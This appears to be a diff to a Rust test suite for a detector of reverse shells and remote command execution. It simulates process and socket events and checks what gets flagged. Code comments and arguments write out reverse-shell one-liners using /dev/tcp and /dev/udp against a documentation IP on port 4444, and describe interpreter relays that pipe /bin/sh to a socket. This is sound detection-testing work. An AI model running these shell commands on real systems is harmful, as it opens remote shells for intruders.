@@ -398,8 +398,8 @@ fn benign_sessions_are_quiet() {
         )
         .event(),
     );
-    // A UDP socket on stdin.
-    let mut udp = tcp(90, "10.0.0.5:5353", "10.0.0.1:53");
+    // An unconnected UDP socket on stdin (an inetd `dgram wait` service): no peer.
+    let mut udp = tcp(90, "10.0.0.5:5353", "0.0.0.0:0");
     udp.socket.as_mut().unwrap().protocol = ward_event::Protocol::Udp;
     ev.push(in_c(ExecBuilder::new(14, 600, 200, "/bin/sh").stdio(0, udp)).event());
     let r = run(ev);
@@ -433,4 +433,301 @@ fn ipv6_peer_is_reported() {
     let f = r.only(RS);
     assert_eq!(f.connections[0].destination_ip, "2001:db8::9");
     assert_eq!(f.source_str("Remote_Peer"), Some("[2001:db8::9]:4444"));
+}
+
+/// `bash -c 'exec 3<>/dev/tcp/H/P; printf "GET /health HTTP/1.0\r\n\r\n" >&3; cat <&3 >OUT'`
+/// with OUT = /dev/null (a health check) or a file (a download), `cat` exec'd in place (last
+/// command) or forked (not last); plus `read l <&3` and `echo ... >&3` builtins.
+fn dev_tcp_transfer(out: ward_event::FdInfo, forked: bool) -> Vec<Event> {
+    let mut ev = web_server();
+    let pipe = fd(FdKind::Pipe, 600);
+    let hc = tcp(4343, "10.0.0.5:52000", "10.0.0.7:8080");
+    ev.push(fork(2, 101, 100));
+    ev.push(
+        in_c(
+            ExecBuilder::new(3, 101, 100, "/bin/bash")
+                .args(&["bash", "-c", "exec 3<>/dev/tcp/10.0.0.7/8080; ..."])
+                .stdio(0, fd(FdKind::Char, 5))
+                .stdio(1, pipe.clone()),
+        )
+        .event(),
+    );
+    ev.push(connect(4, 101, 4343, "10.0.0.5:52000", "10.0.0.7:8080"));
+    // printf ... >&3 and echo ... >&3: fd 1 is the socket for the builtin, then restored.
+    for t in [5, 7] {
+        ev.push(dup(t, 101, 1, hc.clone()));
+        ev.push(dup(t + 1, 101, 1, pipe.clone()));
+    }
+    // read -r status <&3
+    ev.push(dup(9, 101, 0, hc.clone()));
+    ev.push(dup(10, 101, 0, fd(FdKind::Char, 5)));
+    let pid = if forked {
+        ev.push(fork(11, 102, 101));
+        102
+    } else {
+        101
+    };
+    ev.push(dup(12, pid, 0, hc.clone()));
+    ev.push(dup(13, pid, 1, out.clone()));
+    ev.push(
+        in_c(
+            ExecBuilder::new(14, pid, 101, "/usr/bin/cat")
+                .stdio(0, hc)
+                .stdio(1, out),
+        )
+        .event(),
+    );
+    ev
+}
+
+#[test]
+fn dev_tcp_health_checks_and_downloads_are_not_reported() {
+    for forked in [false, true] {
+        for out in [
+            fd(FdKind::Char, 5),
+            ward_event::FdInfo {
+                path: Some("/tmp/file".into()),
+                ..fd(FdKind::File, 900)
+            },
+        ] {
+            let r = run(dev_tcp_transfer(out.clone(), forked));
+            assert!(
+                r.findings.is_empty(),
+                "forked={forked} out={out:?}: {:?}",
+                r.categories()
+            );
+        }
+    }
+}
+
+#[test]
+fn a_transfer_into_a_shell_is_a_reverse_shell() {
+    // bash -c 'exec 3<>/dev/tcp/H/P; cat <&3 | sh': cat is a transfer, sh reads the peer.
+    let mut ev = web_server();
+    let p = fd(FdKind::Pipe, 700);
+    ev.push(in_c(ExecBuilder::new(2, 101, 100, "/bin/bash").args(&["bash", "-c", "..."])).event());
+    ev.push(connect(3, 101, 4242, "10.0.0.5:51000", "203.0.113.9:4444"));
+    ev.push(fork(4, 102, 101));
+    ev.push(fork(4, 103, 101));
+    ev.push(
+        in_c(
+            ExecBuilder::new(5, 103, 101, "/bin/sh")
+                .args(&["sh"])
+                .stdio(0, p.clone()),
+        )
+        .event(),
+    );
+    ev.push(dup(6, 102, 1, p.clone()));
+    ev.push(dup(7, 102, 0, sock()));
+    ev.push(
+        in_c(
+            ExecBuilder::new(8, 102, 101, "/usr/bin/cat")
+                .stdio(0, sock())
+                .stdio(1, p),
+        )
+        .event(),
+    );
+    let r = run(ev);
+    assert_eq!(r.categories(), vec![RS.display_name()]);
+    let rs = r.only(RS);
+    assert_eq!(rs.processes[0].pid, 103);
+    assert_eq!(
+        rs.source_str("Binding"),
+        Some("stdin piped from a network relay")
+    );
+}
+
+#[test]
+fn a_blind_shell_reading_the_socket_is_a_reverse_shell() {
+    // sh <&3 >/dev/null 2>&1
+    let mut ev = web_server();
+    ev.push(
+        in_c(
+            ExecBuilder::new(2, 101, 100, "/bin/sh")
+                .args(&["sh"])
+                .stdio(0, sock())
+                .stdio(1, fd(FdKind::Char, 5))
+                .stdio(2, fd(FdKind::Char, 5)),
+        )
+        .event(),
+    );
+    ev.push(fork(3, 102, 101));
+    ev.push(
+        in_c(
+            ExecBuilder::new(4, 102, 101, "/usr/bin/id")
+                .stdio(0, sock())
+                .stdio(1, fd(FdKind::Char, 5)),
+        )
+        .event(),
+    );
+    let r = run(ev);
+    r.only(RS);
+    // What it runs is remote command execution, whatever its own stdout.
+    assert_eq!(r.only(RCE).count(), 2);
+}
+
+#[test]
+fn udp_reverse_shell() {
+    // bash -c 'sh -i >& /dev/udp/203.0.113.9/4444 0>&1'
+    let u = udp(4444, "10.0.0.5:51000", "203.0.113.9:4444");
+    let mut ev = web_server();
+    ev.push(in_c(ExecBuilder::new(2, 101, 100, "/bin/bash").args(&["bash", "-c", "..."])).event());
+    ev.push(dup(3, 101, 1, u.clone()));
+    ev.push(dup(3, 101, 2, u.clone()));
+    ev.push(dup(3, 101, 0, u.clone()));
+    ev.push(
+        in_c(
+            ExecBuilder::new(4, 101, 100, "/bin/sh")
+                .binary_path("/usr/bin/dash")
+                .args(&["sh", "-i"])
+                .stdio(0, u.clone())
+                .stdio(1, u.clone())
+                .stdio(2, u.clone()),
+        )
+        .event(),
+    );
+    ev.push(fork(5, 102, 101));
+    ev.push(
+        in_c(
+            ExecBuilder::new(6, 102, 101, "/usr/bin/id")
+                .stdio(0, u.clone())
+                .stdio(1, u),
+        )
+        .event(),
+    );
+    let r = run(ev);
+    let rs = r.only(RS);
+    assert_eq!(rs.processes[0].args, vec!["sh", "-i"]);
+    assert_eq!(rs.connections[0].destination_port, 4444);
+    assert_eq!(rs.connections[0].protocol, "UDP");
+    r.only(RCE);
+}
+
+/// python `Popen(["/bin/sh"], stdin=PIPE, stdout=PIPE)` + pump thread (connect first), node
+/// `spawn("/bin/sh")` then `connect` + `client.pipe(sh.stdin)`, java `Runtime.exec` then
+/// `new Socket` with stream pumps (shell first).
+#[test]
+fn interpreter_relays_by_behaviour() {
+    for (relay, path, binary, connect_first) in [
+        ("python3", "/usr/bin/python3", "/usr/bin/python3.11", true),
+        ("node", "/usr/bin/node", "/usr/bin/node", false),
+        (
+            "java",
+            "/usr/bin/java",
+            "/usr/lib/jvm/java-17/bin/java",
+            false,
+        ),
+        ("my-go-agent", "/app/my-go-agent", "/app/my-go-agent", true),
+    ] {
+        let mut ev = web_server();
+        ev.push(fork(2, 101, 100));
+        ev.push(
+            in_c(
+                ExecBuilder::new(3, 101, 100, path)
+                    .binary_path(binary)
+                    .args(&[relay, "x"]),
+            )
+            .event(),
+        );
+        if connect_first {
+            ev.push(connect(4, 101, 4242, "10.0.0.5:51000", "203.0.113.9:4444"));
+        }
+        ev.push(fork(5, 102, 101));
+        ev.push(
+            in_c(
+                ExecBuilder::new(6, 102, 101, "/bin/sh")
+                    .args(&["/bin/sh"])
+                    .stdio(0, fd(FdKind::Pipe, 801))
+                    .stdio(1, fd(FdKind::Pipe, 802))
+                    .stdio(2, fd(FdKind::Pipe, 802))
+                    .stdin_writer(101),
+            )
+            .event(),
+        );
+        if !connect_first {
+            ev.push(connect(7, 101, 4242, "10.0.0.5:51000", "203.0.113.9:4444"));
+        }
+        ev.push(fork(8, 103, 102));
+        ev.push(
+            in_c(
+                ExecBuilder::new(9, 103, 102, "/usr/bin/id")
+                    .stdio(0, fd(FdKind::Pipe, 801))
+                    .stdio(1, fd(FdKind::Pipe, 802)),
+            )
+            .event(),
+        );
+        let r = run(ev);
+        let rs = r.only(RS);
+        assert_eq!(rs.processes[0].pid, 102, "{relay}");
+        assert_eq!(rs.source_str("Socket_Holder_Program"), Some(relay));
+        assert_eq!(
+            rs.source_str("Binding"),
+            Some("stdin pipe written by a process holding a remote connection")
+        );
+        assert_eq!(rs.connections[0].destination_port, 4444);
+        // `id` in the session.
+        let rce = r.only(RCE);
+        assert!(rce.count() >= 1, "{relay}");
+    }
+}
+
+#[test]
+fn a_server_running_sh_c_on_pipes_is_not_a_relay() {
+    // node `child_process.exec("ls /tmp")` from a server holding a client connection.
+    let mut ev = web_server();
+    ev.push(
+        in_c(ExecBuilder::new(2, 101, 100, "/usr/bin/node").args(&["node", "server.js"])).event(),
+    );
+    ev.push(connect(3, 101, 4242, "10.0.0.5:51000", "203.0.113.9:443"));
+    ev.push(fork(4, 102, 101));
+    ev.push(
+        in_c(
+            ExecBuilder::new(5, 102, 101, "/bin/sh")
+                .args(&["/bin/sh", "-c", "ls /tmp"])
+                .stdio(0, fd(FdKind::Pipe, 801))
+                .stdio(1, fd(FdKind::Pipe, 802))
+                .stdin_writer(101),
+        )
+        .event(),
+    );
+    ev.push(fork(6, 103, 102));
+    ev.push(in_c(ExecBuilder::new(7, 103, 102, "/bin/ls").stdio(0, fd(FdKind::Pipe, 801))).event());
+    let r = run(ev);
+    assert!(r.findings.is_empty(), "{:?}", r.categories());
+}
+
+/// `bash -c 'exec 3<>/dev/tcp/H/P; exec 1>&3; date; uname -a'`: a script that sends its output
+/// to a collector. The peer cannot send it anything to run: no stdin, no finding.
+#[test]
+fn a_shell_whose_stdout_only_is_the_socket_is_not_bound() {
+    let mut ev = web_server();
+    let out = tcp(4545, "10.0.0.5:53000", "10.0.0.8:5000");
+    ev.push(
+        in_c(
+            ExecBuilder::new(2, 101, 100, "/bin/bash")
+                .args(&[
+                    "bash",
+                    "-c",
+                    "exec 3<>/dev/tcp/10.0.0.8/5000; exec 1>&3; date; uname -a",
+                ])
+                .stdio(0, fd(FdKind::Char, 5)),
+        )
+        .event(),
+    );
+    ev.push(connect(3, 101, 4545, "10.0.0.5:53000", "10.0.0.8:5000"));
+    ev.push(dup(4, 101, 1, out.clone()));
+    for (i, cmd) in ["/usr/bin/date", "/usr/bin/uname"].iter().enumerate() {
+        let pid = 102 + i as u32;
+        ev.push(fork(5 + i as u64, pid, 101));
+        ev.push(
+            in_c(
+                ExecBuilder::new(6 + i as u64, pid, 101, cmd)
+                    .stdio(0, fd(FdKind::Char, 5))
+                    .stdio(1, out.clone()),
+            )
+            .event(),
+        );
+    }
+    let r = run(ev);
+    assert!(r.findings.is_empty(), "{:?}", r.categories());
 }
